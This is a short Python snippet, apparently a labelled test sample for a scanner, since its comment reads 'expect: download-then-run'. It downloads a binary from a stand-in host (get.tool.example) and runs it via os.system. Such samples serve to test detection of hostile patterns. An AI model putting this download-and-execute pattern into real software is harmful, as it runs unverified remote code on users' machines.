import os
import urllib.request

# expect: download-then-run
urllib.request.urlretrieve("https://get.tool.example/a.bin", "a.bin")
os.system("./a.bin")
